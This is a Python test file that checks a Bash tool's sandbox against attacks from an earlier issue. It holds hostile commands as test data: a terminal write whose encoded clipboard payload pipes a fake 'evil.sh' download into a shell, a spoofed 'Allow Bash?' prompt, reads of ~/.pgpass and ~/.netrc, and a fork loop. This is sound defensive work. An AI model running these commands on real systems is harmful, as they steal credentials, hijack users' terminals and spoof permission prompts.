"""A sandbox with its own ``/dev`` (issue 42), through the real Bash tool.

The issue's attacks, from inside the built-in sandbox that kept the host's ``/dev``: writing
OSC 52 to a pseudo-terminal the user had open set the clipboard and painted a fake prompt,
``cat /dev/pts/N`` read what the user typed; as root, a raw block device (``/dev/loop0``),
``/dev/kvm``, ``/dev/userfaultfd`` and ``/dev/kmsg`` opened; ``AF_VSOCK`` reached the
hypervisor; ``~/.pgpass`` was readable. Each runs here and must fail as stated.
"""

from __future__ import annotations

import os
import select
import shutil
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine.settings.config import Settings
from tests.security import test_bash_sandbox
from tools import cgroup
from tools.base import ToolContext
from tools.registry import default_registry

EXPECTED = test_bash_sandbox.EXPECTED
needs_sandbox = pytest.mark.skipif(EXPECTED == "none", reason="no sandbox can run here")
PY = os.path.realpath(sys.executable)


def _bash(workspace: Path, command: str) -> tuple[str, str]:
    ctx = ToolContext(workspace=workspace, settings=Settings(bash_policy="allow", bash_timeout=30))
    result = default_registry().run("Bash", {"command": command}, ctx)
    assert result.data["sandbox"] == EXPECTED
    return str(result.data["stdout"]), str(result.data["stderr"])


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


@needs_sandbox
def test_a_terminal_opened_outside_can_be_neither_written_nor_read(workspace: Path) -> None:
    """A pty pair opened by the test (the user's terminal): the command writes OSC 52 and a
    fake prompt to its slave and reads from it. Nothing arrives on the master, the slave is
    not in the sandbox's ``/dev/pts`` (a devpts of its own, holding only ``ptmx``), and a pty
    the command opens itself works."""
    master, slave = os.openpty()
    name = os.ttyname(slave)
    try:
        out, err = _bash(
            workspace,
            f"printf '\\033]52;c;Y3VybCBldmlsLnNofHNo\\007Allow Bash? ' > {name}; "
            f"timeout 1 cat {name}; ls /dev/pts; "
            f"{PY} -c 'import os, pty; m, s = pty.openpty(); print(os.ttyname(s))'",
        )
        assert select.select([master], [], [], 0.5)[0] == []  # nothing written to it
        assert f"{name}: No such file or directory" in err
        lines = out.split()
        assert lines[:1] == ["ptmx"]
        assert lines[-1] == "/dev/pts/0"  # its own pty, numbered in its own devpts
    finally:
        os.close(master)
        os.close(slave)


@needs_sandbox
def test_devices_beyond_the_basic_ones_are_not_there(workspace: Path) -> None:
    probe = (
        "import os\n"
        "for name in ('loop0', 'kvm', 'kmsg', 'userfaultfd', 'mem', 'sda', 'vda', 'fuse',"
        " 'null', 'zero', 'full', 'random', 'urandom', 'tty'):\n"
        "    try:\n"
        "        os.close(os.open('/dev/' + name, os.O_RDONLY | os.O_NONBLOCK))\n"
        "        print(name, 'opened')\n"
        "    except OSError as exc:\n"
        "        print(name, exc.strerror)\n"
    )
    (workspace / "probe.py").write_text(probe)
    out, _ = _bash(workspace, f"{PY} probe.py; ls /dev")
    said = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
    for name in ("loop0", "kvm", "kmsg", "userfaultfd", "mem", "sda", "vda", "fuse"):
        assert said[name] == "No such file or directory", name
    for name in ("null", "zero", "full", "random", "urandom"):
        assert said[name] == "opened", name
    # /dev/tty exists; opening it needs a controlling terminal, which a call has none of
    assert said["tty"] in ("opened", "No such device or address")


@needs_sandbox
def test_vsock_is_refused(workspace: Path) -> None:
    out, _ = _bash(
        workspace,
        f"{PY} -c \"import socket\ntry:\n socket.socket(40, socket.SOCK_STREAM)\n print('made')\n"
        'except OSError as e:\n print(e.strerror)"',
    )
    assert out.strip() == "Operation not permitted"


@pytest.fixture
def home() -> Iterator[Path]:
    """A home folder under /var/tmp: under /tmp the sandbox's private /tmp would hide it
    whole, and the test would prove nothing."""
    folder = Path(tempfile.mkdtemp(prefix="ctxscope-home-", dir="/var/tmp"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder)


@needs_sandbox
def test_credential_files_in_home_are_hidden(
    workspace: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-7f3a\n")
    (home / ".pgpass").write_text("db:5432:*:me:PGPASS-7f3a\n")
    (home / ".netrc").write_text("machine h login me password NETRC-7f3a\n")
    (home / ".profile").write_text("kept\n")
    monkeypatch.setenv("HOME", str(home))
    out, _ = _bash(
        workspace,
        "cat ~/.pgpass ~/.netrc; ls -A ~/.ssh; cat ~/.profile; echo x > ~/.pgpass",
    )
    assert "7f3a" not in out
    assert out.strip() == "kept"
    assert (home / ".pgpass").read_text() == "db:5432:*:me:PGPASS-7f3a\n"  # untouched


FORK_LOOP = """
import os, sys, time
made = 0
while made < 2000:
    try:
        pid = os.fork()
    except OSError as exc:
        print(made, exc.strerror)
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    made += 1
else:
    print(made, "no refusal")
"""


@needs_sandbox
@pytest.mark.skipif(not cgroup.available(), reason="no cgroup can be made here (not root?)")
def test_a_fork_loop_as_root_stops_at_the_bound(workspace: Path) -> None:
    """The issue's fork loop, as whoever runs the tests (root on the build machine, where
    ``RLIMIT_NPROC`` does not apply): with ``bash_max_processes = 64`` the call's cgroup
    refuses the fork that would make the 65th task — a few are the sandbox's own (bash,
    the init, python) — and the group is gone after the call."""
    (workspace / "forks.py").write_text(FORK_LOOP)
    before = _groups()
    ctx = ToolContext(
        workspace=workspace,
        settings=Settings(bash_policy="allow", bash_timeout=60, bash_max_processes=64),
    )
    result = default_registry().run("Bash", {"command": f"{PY} forks.py"}, ctx)
    made, why = str(result.data["stdout"]).strip().split(" ", 1)
    assert why == "Resource temporarily unavailable"
    assert 50 <= int(made) < 64
    assert _groups() == before


def _groups() -> set[str]:
    """This process' call groups (another test process makes its own meanwhile)."""
    mine = f"ctxscope-{os.getpid()}-*"
    kind = cgroup.available()
    if kind == "v1-pids":
        return {p.name for p in cgroup.V1_PIDS.glob(mine)}
    found = cgroup._v2_parent()
    return {p.name for p in found[0].glob(mine)} if found else set()
